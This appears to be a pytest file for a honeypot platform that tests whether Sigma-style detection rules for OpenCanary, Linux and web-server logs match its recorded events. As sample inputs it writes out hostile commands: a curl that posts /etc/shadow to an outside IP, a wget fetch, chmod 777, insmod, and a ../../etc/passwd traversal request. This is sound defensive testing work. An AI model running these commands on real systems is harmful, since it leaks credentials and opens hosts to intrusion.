# SPDX-License-Identifier: MIT
"""Rules in the form of SigmaHQ's, for logs of OpenCanary, Linux and web servers, on our events."""

from __future__ import annotations

from collections.abc import Callable

import pytest

from decnet_core.events.catalogue import (
    ClientIdentified,
    CommandRun,
    ConnectionOpened,
    HttpRequest,
    LoginAttempt,
    Payload,
    PortScan,
    ServiceRequest,
)
from decnet_models.events.queries import StoredEvent
from decnet_workers.ttp.library import Library

RULE = """\
title: A rule of somebody else
id: 6f1b2f3e-93ab-4c1c-9c38-1f6b0a1f9d10
related:
  - id: 6f1b2f3e-93ab-4c1c-9c38-1f6b0a1f9d11
    type: derived
status: experimental
tags:
  - attack.execution
  - attack.t1059.004
  - detection.threat-hunting
logsource:
  %s
detection:
  selection:
    %s
  condition: selection
falsepositives:
  - Unlikely
level: high
"""
LibraryOf = Callable[[str], Library]
Stored = Callable[..., StoredEvent]
CANARY, PROCESS = "{category: application, product: opencanary}", "{category: process_creation, product: linux}"
AUDIT, WEB = "{product: linux, service: auditd}", "{category: webserver}"


def run(command: str) -> CommandRun:
    return CommandRun(service="ssh", command=command)


def get(target: str, **more: object) -> HttpRequest:
    return HttpRequest(method="GET", target=target, **more)  # type: ignore[arg-type]  # fields of the payload


@pytest.mark.parametrize(
    ("source", "selection", "payload", "hit"),
    [
        (CANARY, "logtype: 4002", LoginAttempt(service="ssh", username="root", success=False), True),
        (CANARY, "logtype: 4002", LoginAttempt(service="ftp", username="root", success=False), False),
        (CANARY, "logtype: [4000, 4001]", ConnectionOpened(service="ssh"), True),
        (CANARY, "logtype: 4001", ClientIdentified(service="ssh", software="SSH-2.0-Go"), True),
        (CANARY, "logtype: 3001", HttpRequest(method="POST", target="/login"), True),
        (CANARY, "logtype: 3001", get("/login"), False),
        (CANARY, "logtype: 5005", PortScan("fin"), True),
        (CANARY, "logtype: 17001", ServiceRequest("redis", "INFO"), True),
        (CANARY, "logdata.USERNAME: root", LoginAttempt(service="rdp", username="Root", success=False), True),
        (PROCESS, "Image|endswith: /crontab", run("crontab -l"), True),
        (PROCESS, "Image|endswith: /crontab", run("cat crontab"), False),
        (PROCESS, "Image|endswith: /wget", run("cd /tmp; sudo -u x /opt/wget http://198.51.100.7/"), True),
        (PROCESS, "Image: /usr/bin/id", run("id"), True),
        (PROCESS, "CommandLine|contains|windash: ' -l'", run("crontab /l"), True),
        (AUDIT, "{type: EXECVE, a0: chmod, a1: '777'}", run("cd /tmp && chmod '777' x"), True),
        (AUDIT, "{type: EXECVE, a0: chmod, a1: '777'}", run("echo chmod 777"), False),
        (AUDIT, "{type: EXECVE, comm: 'insmod'}", run("/sbin/insmod x.ko"), True),
        (WEB, "cs-uri-query|contains: ../..", get("/x?f=../../etc/passwd"), True),
        (WEB, "cs-uri-query|contains: ../..", get("/../../etc/passwd"), False),
        (WEB, "cs-uri-stem|endswith: .php", get("http://192.0.2.1/a.php?x=.y"), True),
        (WEB, "{cs-method: GET, sc-status: 404}", get("/", status=404), True),
        (WEB, "cs-user-agent|re: '^sqlmap/'", get("/", user_agent="sqlmap/1.8"), True),
        ("{category: proxy}", "c-uri|contains: /x", get("http://example.com/x"), True),
        ("{product: nginx}", "cs-referer|startswith: 'http://a'", get("/", headers=(("Referer", "http://a/"),)), True),
    ],
)
def test_a_rule_for_other_logs_matches_our_events(
    library_of: LibraryOf, stored: Stored, *, source: str, selection: str, payload: Payload, hit: bool
) -> None:
    library = library_of(RULE % (source, selection))
    assert library.refused == ()
    assert bool(library.matching(stored(1, payload).event)) == hit
    assert bool(library.matching(stored(2, payload).event)) == hit, "the second time it is remembered"


def test_two_conditions_hold_for_one_program_and_not_for_two_of_a_line(library_of: LibraryOf, stored: Stored) -> None:
    library = library_of(RULE % (PROCESS, "Image|endswith: /curl\n    CommandLine|contains: /etc/shadow"))
    assert not library.matching(stored(1, run("cat /etc/shadow; curl http://198.51.100.7/")).event)
    assert library.matching(stored(2, run("ls; curl -d @/etc/shadow http://198.51.100.7/")).event)


@pytest.mark.parametrize(
    ("source", "selection", "line", "words"),
    [
        (PROCESS, "ParentImage|endswith: /sh", 15, "'linux process_creation' has no field 'ParentImage'"),
        (PROCESS, "Comandline|contains: x", 15, "did you mean 'CommandLine'"),
        (CANARY, "logdata.SESSION: x", 15, "has no field 'logdata.SESSION'"),
        (WEB, "cs-bytes|gt: 3", 15, "has no field 'cs-bytes'"),
        (PROCESS, "CommandLine|expand: '%x%'", 15, "no modifier 'expand'"),
        (
            "{product: windows, category: process_creation}",
            "Image: x",
            12,
            "product windows, category process_creation",
        ),
        ("{product: linux}", "Image: x", 12, "is not known"),
        ("{product: linux, service: sshd}", "Image: x", 12, "service sshd"),
        ("{}", "Image: x", 11, "an empty one"),
    ],
)
def test_what_is_not_mapped_is_refused_by_name(
    library_of: LibraryOf, source: str, selection: str, line: int, words: str
) -> None:
    (refusal,) = library_of(RULE % (source, selection)).refused
    assert words in refusal.reason
    assert refusal.line == line
